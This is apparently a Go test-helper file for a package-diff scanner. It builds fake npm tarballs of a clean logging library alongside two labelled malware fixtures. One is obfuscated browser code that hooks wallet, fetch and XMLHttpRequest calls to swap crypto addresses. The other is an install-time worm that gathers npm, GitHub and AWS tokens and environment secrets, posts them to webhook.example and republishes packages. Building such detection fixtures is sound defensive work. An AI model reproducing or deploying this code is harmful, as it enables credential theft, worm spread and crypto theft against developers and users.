package diff

import (
	"fmt"
	"maps"
	"strings"
	"testing"

	"customs/internal/archivetest"
)

// npmTarball writes files (paths below the package root) as an npm tarball
// with the "package/" prefix and returns its path.
func npmTarball(t testing.TB, dir, name string, files map[string]string) string {
	t.Helper()
	return tarball(t, dir, name, "package/", files)
}

// tarball writes files below prefix as a .tar.gz and returns its path.
func tarball(t testing.TB, dir, name, prefix string, files map[string]string) string {
	t.Helper()
	return archivetest.WriteTarGz(t, dir, name, archivetest.Files(prefix, files)...)
}

func with(files map[string]string, kv ...string) map[string]string {
	out := maps.Clone(files)
	for i := 0; i+1 < len(kv); i += 2 {
		out[kv[i]] = kv[i+1]
	}
	return out
}

func packageJSON(name, version, extra string) string {
	return fmt.Sprintf(`{
  "name": %q,
  "version": %q,
  "description": "small debugging utility",
  "main": "./src/index.js",
  "repository": "example/debug-like",
  "license": "MIT"%s
}
`, name, version, extra)
}

// debugLike is a clean version of a small, popular logging library.
func debugLike(version string) map[string]string {
	return map[string]string{
		"package.json": packageJSON("debug-like", version, `,
  "dependencies": {"ms-like": "^2.1.3"}`),
		"README.md": "# debug-like\n\nA tiny debugging utility.\n",
		"LICENSE":   "MIT License\n",
		"src/index.js": `/**
 * Detect Electron renderer / nwjs process, which is node, but we should
 * treat as a browser.
 */
if (typeof process === 'undefined' || process.type === 'renderer' || process.browser === true || process.__nwjs) {
	module.exports = require('./browser.js');
} else {
	module.exports = require('./node.js');
}
`,
		"src/common.js": commonJS,
		"src/node.js": `const tty = require('tty');
const util = require('util');

exports.init = init;
exports.log = log;
exports.useColors = useColors;

function useColors() {
	return 'colors' in exports.inspectOpts ? Boolean(exports.inspectOpts.colors) : tty.isatty(process.stderr.fd);
}

function log(...args) {
	return process.stderr.write(util.formatWithOptions(exports.inspectOpts, ...args) + '\n');
}

function init(debug) {
	debug.inspectOpts = {};
}

module.exports = require('./common')(exports);
`,
		"src/browser.js": `exports.log = console.debug || console.log || (() => {});
exports.storage = localstorage();

function localstorage() {
	try {
		return localStorage;
	} catch (error) {
		return undefined;
	}
}

module.exports = require('./common')(exports);
`,
	}
}

const commonJS = `/**
 * This is the common logic for both the Node.js and web browser
 * implementations of debug().
 */
function setup(env) {
	createDebug.debug = createDebug;
	createDebug.default = createDebug;
	createDebug.names = [];
	createDebug.skips = [];
	createDebug.formatters = {};

	function selectColor(namespace) {
		let hash = 0;
		for (let i = 0; i < namespace.length; i++) {
			hash = ((hash << 5) - hash) + namespace.charCodeAt(i);
			hash |= 0;
		}
		return createDebug.colors[Math.abs(hash) % createDebug.colors.length];
	}
	createDebug.selectColor = selectColor;

	function createDebug(namespace) {
		let prevTime;
		function debug(...args) {
			if (!debug.enabled) {
				return;
			}
			const curr = Number(new Date());
			const ms = curr - (prevTime || curr);
			debug.diff = ms;
			prevTime = curr;
			createDebug.formatArgs.call(debug, args);
			const logFn = debug.log || createDebug.log;
			logFn.apply(debug, args);
		}
		debug.namespace = namespace;
		return debug;
	}
	return createDebug;
}

module.exports = setup;
`

// walletHijacker is an inert imitation of the September 2025 chalk/debug
// payload: javascript-obfuscator output on one line that hooks
// window.ethereum's request, fetch and XMLHttpRequest and rewrites crypto
// addresses in responses to the attacker's. It is test data only: never
// run, and its "attacker" address is the burn address.
func walletHijacker() string {
	var b strings.Builder
	b.WriteString("const _0x112fa8=_0x180f;(function(_0x13c8b9,_0x35f660){const _0x15b386=_0x180f,_0x66ea25=_0x13c8b9();while(!![]){try{const _0x2cc99e=parseInt(_0x15b386(0x46c))/0x1;if(_0x2cc99e===_0x35f660)break;else _0x66ea25['push'](_0x66ea25['shift']());}catch(_0x205af0){_0x66ea25['push'](_0x66ea25['shift']());}}}(_0x3ba6,0x3c4a1));")
	for i := 0; i < 40; i++ {
		fmt.Fprintf(&b, "function _0x%04x(_0x%04x,_0x%04x){return _0x%04x['replace'](/\\b0x[a-fA-F0-9]{40}\\b/g,'0x000000000000000000000000000000000000dEaD');}", 0x4a00+i, 0x5b00+i, 0x6c00+i, 0x5b00+i)
	}
	b.WriteString("if(typeof window!='undefined'&&typeof window['ethereum']!='undefined'){const _0x4f3e21=window['ethereum']['request'];window['ethereum']['request']=async function(_0x3e2d1c){return _0x4f3e21['call'](this,_0x4a00(_0x3e2d1c));};}")
	b.WriteString("const _0x2b1c3d=fetch;fetch=async function(..._0x1a2b3c){const _0x5d4e3f=await _0x2b1c3d(..._0x1a2b3c);return new Response(_0x4a01(await _0x5d4e3f['text']()),_0x5d4e3f);};")
	b.WriteString("const _0x3c2d1e=XMLHttpRequest['prototype']['open'];XMLHttpRequest['prototype']['open']=function(_0x1e2f3a,_0x2f3a4b){this['addEventListener']('load',function(){_0x4a02(this['responseText']);});return _0x3c2d1e['apply'](this,arguments);};")
	b.WriteString("function _0x3ba6(){const _0x7a8b9c=['1bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh','TB9emsCq6fQw6wRk4HBxxNnU6Hwt1DnV67','ethereum','request','send','responseText'];_0x3ba6=function(){return _0x7a8b9c;};return _0x3ba6();}")
	return b.String()
}

// tokenStealer is an inert imitation of a Shai-Hulud-like install-time
// worm: it reads npm and GitHub tokens from the environment and ~/.npmrc,
// posts them to a webhook and republishes the victim's packages. Test data
// only, never run; the endpoint is a reserved example domain.
const tokenStealer = `const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const https = require('https');

const secrets = {
	npm: process.env.NPM_TOKEN,
	github: process.env.GITHUB_TOKEN,
	aws: process.env.AWS_SECRET_ACCESS_KEY,
	npmrc: fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'),
	env: JSON.stringify(process.env),
	host: os.hostname(),
	user: os.userInfo().username,
};
const body = Buffer.from(JSON.stringify(secrets)).toString('base64');
const req = https.request({ hostname: 'webhook.example', path: '/collect', method: 'POST' });
req.write(body);
req.end();
for (const pkg of JSON.parse(execSync('npm access list packages --json').toString())) {
	execSync('npm version patch && npm publish', { cwd: '/tmp/' + pkg });
}
`
